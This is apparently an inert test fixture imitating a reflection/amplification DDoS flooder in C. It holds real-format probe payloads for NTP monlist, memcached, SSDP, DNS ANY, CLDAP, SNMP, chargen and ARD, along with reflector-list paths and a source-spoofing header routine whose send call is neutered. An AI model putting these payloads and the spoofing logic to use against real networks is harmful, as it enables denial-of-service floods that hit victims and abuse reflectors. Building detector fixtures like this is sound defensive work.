/* Inert imitation of an amplification flooder: probe payloads, reflector list file, spoofed header. It sends nothing. */
#include "inert.h"
static const unsigned char ntp_monlist[] = {0x17, 0x00, 0x03, 0x2a, 0, 0, 0, 0};
static const char memcached_stats[] = "\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n";
static const char memcached_gets[] = "\x00\x00\x00\x00\x00\x01\x00\x00gets a b c d e\r\n";
static const char ssdp[] = "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 2\r\nST: ssdp:all\r\n\r\n";
static const unsigned char dns_any[] = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 1, 4, 'd', 'o', 'e', 's', 4, '-', 'd', 'n', 's', 3, 'o', 'r', 'g', 0, 0, 0xff, 0, 1, 0, 0, 0x29, 0x23, 0x28, 0, 0, 0, 0, 0, 0};
static const char cldap[] = "\x30\x25\x02\x01\x01\x63\x20\x04\x00\x0a\x01\x00\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0b" "objectclass0\x00";
static const char snmp[] = "\x30\x26\x02\x01\x01\x04\x06public\xa5\x19\x02\x04\x71\xb4\xb5\x68\x02\x01\x00\x02\x01\x7f\x30\x0b\x30\x09\x06\x05\x2b\x06\x01\x02\x01\x05\x00";
static const char chargen[] = "\x01"; static const char ard[] = "\x00\x14\x00\x00";
TABLE(targets, "{{ip:amp1}}", "{{ip:amp2}}", "www.{{domain:amp}}", "shop.{{domain:amp}}", "{{ip:amp3}}/24")
TABLE(texts, "usage: %s <target> <port> <reflector list> <threads> <time>", "/etc/ntp.list", "/etc/memcached.list", "/etc/ssdp.list", "reflection attack on %s, %d reflectors loaded", "spoofed source %s", "packets per second: %d")
void send_spoofed(uint32_t victim, const void *payload, int size) { struct iphdr ip = {0}; ip.version = 4; ip.saddr = victim; ip.protocol = 17; setsockopt(nowhere, 0, IP_HDRINCL, &nowhere, 4); sendto(nowhere, payload, 0, 0, 0, 0); }
int main(int argc, char **argv)
{
    INERT;
    tell(targets); tell(texts);
    send_spoofed(0, ntp_monlist, 8); send_spoofed(0, memcached_stats, 0); send_spoofed(0, memcached_gets, 0); send_spoofed(0, ssdp, 0); send_spoofed(0, dns_any, 0);
    send_spoofed(0, cldap, 0); send_spoofed(0, snmp, 0); send_spoofed(0, chargen, 0); send_spoofed(0, ard, 0);
    USE(ntp_monlist); USE(memcached_stats); USE(memcached_gets); USE(dns_any); USE(cldap); USE(snmp);
    return 0;
}
